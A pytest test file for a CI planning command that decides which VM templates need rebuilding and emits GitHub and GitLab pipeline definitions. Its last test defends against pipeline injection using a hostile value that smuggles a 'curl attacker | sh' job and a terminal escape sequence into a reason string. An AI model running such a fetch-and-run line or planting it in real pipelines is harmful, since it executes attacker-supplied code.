"""goldsmith plan: two templates released into a folder of records (build.json
and a manifest faithful to the spec, dummy-signed: plan decodes, never
verifies), package indexes served on 127.0.0.1, and the matrix each CI system
reads. The GitLab child pipeline is checked against SchemaStore's gitlab-ci
schema as check-jsonschema vendors it."""

from __future__ import annotations

import hashlib
import json
import os
from importlib.resources import files
from pathlib import Path
from typing import Any

import jsonschema
import pytest
import test_outdated
import yaml
from click.testing import CliRunner
from test_outdated import SPEC, Mirror, one_line_error, statement, write_envelope

from builder.base import bootstrap_inputs
from builder.cli import cli
from builder.cli.plan import (
    PlannedTemplate,
    PlanReason,
    render_github_matrix,
    render_gitlab_pipeline,
)
from builder.spec import DebootstrapBase, load_spec
from hardening.profile import load_profile

# test_outdated's fixture serving package indexes on 127.0.0.1, found by pytest
# under this name in this module.
mirror = test_outdated.mirror

INSTALLED = [
    ("libc6", "2.36-9+deb12u4", "amd64"),
    ("openssl", "3.0.11-1~deb12u2", "amd64"),
]


def release_records(
    out: Path,
    spec_path: Path,
    *,
    version: str = "1.0.0",
    finished: str = "2026-11-26T08:00:00Z",
    signed: bool = True,
    previous: Path | None = None,
    **changes: Any,
) -> Path:
    """<name>-<version>/ with build.json and a manifest recording ``spec_path``
    as it is now (``changes`` to the statement make it outdated)."""
    spec = load_spec(spec_path)
    assert isinstance(spec.base, DebootstrapBase)
    folder = out / f"{spec.name}-{version}"
    folder.mkdir(parents=True)
    image = hashlib.sha256(f"{spec.name}-{version}".encode()).hexdigest()
    record = {
        "schema": "https://goldsmith.dev/build/v1",
        "template": {"name": spec.name, "version": version},
        "spec": {"path": str(spec_path), "sha256": spec.sha256},
        "profile": {"id": "baseline", "version": "1", "digest": "sha256:0", "source": "baseline"},
        "base": {"source": "debootstrap", "name": "b", "uri": "u", "digest": {"sha256": "1"}},
        "image": {"path": "disk.qcow2", "sha256": image, "sha512": "0", "virtual_size": 1},
        "tools": {"goldsmith": "0.1.0", "qemu": "7.2.22"},
        "accelerator": "tcg",
        "build_vm": {"machine_id": "2" * 32, "host_keys": {}},
        "started": finished,
        "finished": finished,
    }
    (folder / "build.json").write_text(json.dumps(record))
    if signed:
        fields: dict[str, Any] = {
            "name": spec.name,
            "version": version,
            "packages": INSTALLED,
            "image_sha256": image,
            "build_record_sha256": hashlib.sha256((folder / "build.json").read_bytes()).hexdigest(),
            "spec_sha256": spec.sha256,
            "profile_digest": load_profile("baseline").digest,
            "previous": hashlib.sha256(previous.read_bytes()).hexdigest() if previous else None,
            "base": {
                "name": "debian-bookworm-debootstrap",
                "uri": spec.base.mirror,
                "source": "debootstrap",
                "digest": {"sha256": "12" * 32},
                "inputs": bootstrap_inputs(spec.base),
            },
        }
        fields.update(changes)
        write_envelope(folder / "manifest.dsse.json", statement(**fields))
    return folder


class Fleet:
    """Two specs, demo and other, and the folder their records are released into."""

    def __init__(self, root: Path, mirror: Mirror) -> None:
        self.root = root
        self.mirror = mirror
        self.records = root / "records"
        self.records.mkdir()
        self.demo = self.write_spec("demo")
        self.other = self.write_spec("other")

    def write_spec(self, name: str) -> Path:
        path = self.root / "templates" / f"{name}.yaml"
        path.parent.mkdir(exist_ok=True)
        text = SPEC.format(mirror=self.mirror.debian, security=self.mirror.security)
        path.write_text(text.replace("name: demo", f"name: {name}"))
        return path


@pytest.fixture
def fleet(tmp_path: Path, mirror: Mirror, monkeypatch: pytest.MonkeyPatch) -> Fleet:
    mirror.publish("debian", "bookworm", INSTALLED)
    mirror.publish("debian", "bookworm-updates", [], "Packages.gz")
    mirror.publish("debian-security", "bookworm-security", [], "Packages")
    made = Fleet(tmp_path, mirror)
    # Spec paths as a pipeline gives them: relative to the repository.
    monkeypatch.chdir(tmp_path)
    return made


def run_plan(*args: str | Path) -> Any:
    return CliRunner().invoke(cli, ["plan", *(str(a) for a in args)])


def specs() -> list[str]:
    return ["templates/demo.yaml", "templates/other.yaml"]


# --- the GitLab schema, as check-jsonschema vendors SchemaStore's ------------------------


def vendored_schema(name: str) -> dict[str, Any]:
    text = files("check_jsonschema.builtin_schemas.vendor").joinpath(name).read_text("utf-8")
    schema: dict[str, Any] = json.loads(text)
    return schema


def schema_errors(doc: Any, schema_name: str) -> list[str]:
    schema = vendored_schema(schema_name)
    validator = jsonschema.validators.validator_for(schema)(schema)
    return [
        f"{'/'.join(map(str, e.absolute_path))}: {e.message[:200]}"
        for e in validator.iter_errors(doc)
    ]


# --- one template outdated, the other current ------------------------------------------


@pytest.fixture
def one_outdated(fleet: Fleet) -> Fleet:
    """Both released as their specs are now; then other's spec changes."""
    release_records(fleet.records, fleet.demo)
    release_records(fleet.records, fleet.other)
    with fleet.other.open("a") as spec:
        spec.write("# a site comment changes the spec's digest\n")
    return fleet


def test_github_matrix_has_exactly_the_outdated_one(one_outdated: Fleet) -> None:
    result = run_plan(*specs(), "--manifests", "records", "--format", "github")
    assert result.exit_code == 1, result.output
    # One line: GitHub reads a step output up to its first newline.
    assert result.stdout.count("\n") == 1
    matrix = json.loads(result.stdout)
    assert list(matrix) == ["include"]
    (entry,) = matrix["include"]
    assert entry["spec"] == "templates/other.yaml"
    assert entry["name"] == "other"
    assert len(entry["reasons"]) == 1
    assert entry["reasons"][0].startswith("spec changed: ")
    # What fromJSON() hands to strategy.matrix: include entries of scalar or
    # list values, no key GitHub reserves, each entry a distinct job.
    assert all(isinstance(v, str | list) for v in entry.values())
    workflow = {
        "on": "workflow_dispatch",
        "jobs": {
            "rebuild": {
                "runs-on": "ubuntu-24.04",
                "strategy": {"matrix": matrix},
                "steps": [{"run": "true"}],
            }
        },
    }
    assert schema_errors(workflow, "github-workflows.json") == []
    assert "other: rebuild (spec changed" in result.stderr
    assert "demo: current (1.0.0)" in result.stderr


def test_gitlab_child_pipeline_has_exactly_the_outdated_one(one_outdated: Fleet) -> None:
    result = run_plan(*specs(), "--manifests", "records", "--format", "gitlab")
    assert result.exit_code == 1, result.output
    doc = yaml.safe_load(result.stdout)
    assert schema_errors(doc, "gitlab-ci.json") == []
    assert doc["include"] == [{"local": ".gitlab-ci.yml"}]
    assert doc["rebuild"]["extends"] == ".goldsmith-rebuild"
    assert doc["rebuild"]["parallel"]["matrix"] == [
        {"SPEC": "templates/other.yaml", "TEMPLATE": "other"}
    ]
    assert doc["verify"] == {"extends": ".goldsmith-verify", "needs": ["rebuild"]}
    assert "#   other: rebuild (spec changed" in result.stdout


def test_gitlab_include_names_the_file_of_the_hidden_jobs(one_outdated: Fleet) -> None:
    result = run_plan(
        *specs(), "--manifests", "records", "--format", "gitlab", "--gitlab-include", "ci/gs.yml"
    )
    assert result.exit_code == 1, result.output
    assert yaml.safe_load(result.stdout)["include"] == [{"local": "ci/gs.yml"}]


def test_json_lists_the_outdated_one_and_the_current_one(one_outdated: Fleet) -> None:
    result = run_plan(*specs(), "--manifests", "records", "--format", "json")
    assert result.exit_code == 1, result.output
    doc = json.loads(result.stdout)
    (rebuild,) = doc["rebuild"]
    (current,) = doc["current"]
    assert rebuild["name"] == "other" and rebuild["rebuild"] is True
    assert [r["kind"] for r in rebuild["reasons"]] == ["spec"]
    assert rebuild["version"] == "1.0.0"
    assert rebuild["manifest"] == str(Path("records/other-1.0.0/manifest.dsse.json"))
    assert current["name"] == "demo" and current["reasons"] == []


def test_a_template_never_built_is_planned(fleet: Fleet) -> None:
    release_records(fleet.records, fleet.demo)
    result = run_plan(*specs(), "--manifests", "records", "--format", "json")
    assert result.exit_code == 1, result.output
    (rebuild,) = json.loads(result.stdout)["rebuild"]
    assert rebuild["name"] == "other"
    assert rebuild["version"] is None and rebuild["manifest"] is None
    assert rebuild["reasons"] == [
        {"kind": "new", "message": "never built: no signed manifest of other under records"}
    ]


def test_a_security_update_in_the_mirror_is_a_reason(fleet: Fleet) -> None:
    release_records(fleet.records, fleet.demo)
    release_records(fleet.records, fleet.other)
    fleet.mirror.publish(
        "debian-security",
        "bookworm-security",
        [("openssl", "3.0.13-1~deb12u1", "amd64")],
        "Packages",
    )
    result = run_plan(*specs(), "--manifests", "records", "--format", "github")
    assert result.exit_code == 1, result.output
    names = [e["name"] for e in json.loads(result.stdout)["include"]]
    assert names == ["demo", "other"]


@pytest.mark.parametrize("output_format", ["github", "gitlab", "json"])
def test_nothing_to_rebuild_exits_0_with_the_empty_plan(fleet: Fleet, output_format: str) -> None:
    release_records(fleet.records, fleet.demo)
    release_records(fleet.records, fleet.other)
    result = run_plan(*specs(), "--manifests", "records", "--format", output_format)
    assert result.exit_code == 0, result.output
    if output_format == "github":
        assert json.loads(result.stdout) == {"include": []}
        # GitHub refuses an empty matrix (so does its schema): a workflow
        # skips the matrix job on exit 0, as examples/github-actions.yml does.
        workflow = {
            "on": "workflow_dispatch",
            "jobs": {
                "rebuild": {
                    "runs-on": "ubuntu-24.04",
                    "strategy": {"matrix": {"include": []}},
                    "steps": [{"run": "true"}],
                }
            },
        }
        assert schema_errors(workflow, "github-workflows.json") != []
    elif output_format == "json":
        doc = json.loads(result.stdout)
        assert doc["rebuild"] == [] and len(doc["current"]) == 2
    else:
        doc = yaml.safe_load(result.stdout)
        # GitLab refuses a child pipeline without jobs: one job says so.
        assert list(doc) == ["nothing-to-rebuild"]
        assert schema_errors(doc, "gitlab-ci.json") == []


def test_the_newest_signed_manifest_is_the_one_compared(fleet: Fleet) -> None:
    old = release_records(
        fleet.records,
        fleet.demo,
        version="1.0.0",
        finished="2026-11-01T08:00:00Z",
        spec_sha256="00" * 32,
    )
    release_records(
        fleet.records,
        fleet.demo,
        version="1.0.1",
        finished="2026-11-20T08:00:00Z",
        previous=old / "manifest.dsse.json",
    )
    # Built after, never signed: not a release.
    release_records(
        fleet.records, fleet.demo, version="1.0.2", finished="2026-11-25T08:00:00Z", signed=False
    )
    result = run_plan("templates/demo.yaml", "--manifests", "records")
    assert result.exit_code == 0, result.output
    (current,) = json.loads(result.stdout)["current"]
    assert current["version"] == "1.0.1"


def test_failed_builds_and_work_folders_are_no_releases(fleet: Fleet) -> None:
    release_records(fleet.records, fleet.demo)
    failed = release_records(fleet.records, fleet.other)
    failed.rename(fleet.records / "other-1.0.0.FAILED-20261126T080000")
    hidden = release_records(fleet.records, fleet.other, version="1.0.1")
    hidden.rename(fleet.records / ".other-1.0.1.work-1234")
    result = run_plan(*specs(), "--manifests", "records")
    assert result.exit_code == 1, result.output
    (rebuild,) = json.loads(result.stdout)["rebuild"]
    assert rebuild["name"] == "other" and rebuild["reasons"][0]["kind"] == "new"


# --- bad input: one line, exit 2 ---------------------------------------------------------


def test_a_missing_spec_is_one_line_exit_2(fleet: Fleet) -> None:
    line = one_line_error(run_plan("templates/nope.yaml", "--manifests", "records"))
    assert "templates/nope.yaml" in line and "not found" in line


def test_a_bad_format_is_exit_2(fleet: Fleet) -> None:
    result = run_plan(*specs(), "--manifests", "records", "--format", "jenkins")
    assert result.exit_code == 2
    assert "Traceback" not in result.output
    assert "jenkins" in result.stderr and "github" in result.stderr


def test_no_spec_is_exit_2() -> None:
    result = run_plan("--manifests", "records")
    assert result.exit_code == 2
    assert "SPECS" in result.stderr


def test_a_missing_manifests_folder_is_one_line_exit_2(fleet: Fleet) -> None:
    line = one_line_error(run_plan(*specs(), "--manifests", "nowhere"))
    assert "nowhere" in line and "not found" in line


def test_a_file_as_the_manifests_folder_is_one_line_exit_2(fleet: Fleet) -> None:
    line = one_line_error(run_plan(*specs(), "--manifests", "templates/demo.yaml"))
    assert "expected a folder of released artifacts" in line


def test_an_unreadable_manifests_folder_is_one_line_exit_2(
    fleet: Fleet, monkeypatch: pytest.MonkeyPatch
) -> None:
    release_records(fleet.records, fleet.demo)
    locked = fleet.records / "demo-1.0.0"
    if os.geteuid() != 0:
        locked.chmod(0)
    else:
        # root reads through any mode bits: refuse the listing as the kernel would.
        real = os.scandir

        def scandir(path: Any = ".") -> Any:
            if Path(path).resolve() == locked.resolve():
                raise PermissionError(13, "Permission denied", str(path))
            return real(path)

        monkeypatch.setattr(os, "scandir", scandir)
    try:
        line = one_line_error(run_plan(*specs(), "--manifests", "records"))
    finally:
        locked.chmod(0o755)
    assert "records/demo-1.0.0" in line and "Permission denied" in line


def test_a_malformed_manifest_is_one_line_exit_2(fleet: Fleet) -> None:
    folder = release_records(fleet.records, fleet.demo)
    (folder / "manifest.dsse.json").write_text("not json")
    line = one_line_error(run_plan(*specs(), "--manifests", "records"))
    assert "manifest.dsse.json" in line


def test_a_registry_reference_is_refused_in_one_line(fleet: Fleet) -> None:
    line = one_line_error(
        run_plan(*specs(), "--manifests", "registry.example.com/templates", "--format", "github")
    )
    assert "registry.example.com/templates" in line and "registry reference" in line


def test_two_specs_of_one_template_are_one_line_exit_2(fleet: Fleet) -> None:
    twin = fleet.write_spec("twin")
    twin.write_text(twin.read_text().replace("name: twin", "name: demo"))
    line = one_line_error(
        run_plan("templates/demo.yaml", "templates/twin.yaml", "--manifests", "records")
    )
    assert "templates/twin.yaml: name" in line and "templates/demo.yaml" in line


def test_an_unreachable_mirror_exits_3(fleet: Fleet) -> None:
    # Nothing listens on port 9 of 127.0.0.1 (discard): the connection is refused.
    fleet.demo.write_text(fleet.demo.read_text().replace(fleet.mirror.url, "http://127.0.0.1:9"))
    release_records(fleet.records, fleet.demo)
    line = one_line_error(run_plan(*specs(), "--manifests", "records"), code=3)
    assert "127.0.0.1:9" in line


def test_text_from_documents_cannot_add_to_the_pipelines() -> None:
    """Reasons quote manifests and mirrors: a newline in one must not start a
    YAML line of its own in the child pipeline, nor a second step output line."""
    hostile = "x\nevil:\n  script: [curl attacker | sh]\n\x1b]0;title\x07"
    planned = [PlannedTemplate(Path("t/a.yaml"), "a", None, None, (PlanReason("spec", hostile),))]
    doc = yaml.safe_load(render_gitlab_pipeline(planned, ".gitlab-ci.yml"))
    assert set(doc) == {"include", "rebuild", "verify"}
    assert "\x1b" not in render_gitlab_pipeline(planned, ".gitlab-ci.yml")
    line = render_github_matrix(planned)
    assert "\n" not in line
    assert json.loads(line)["include"][0]["reasons"] == [hostile]
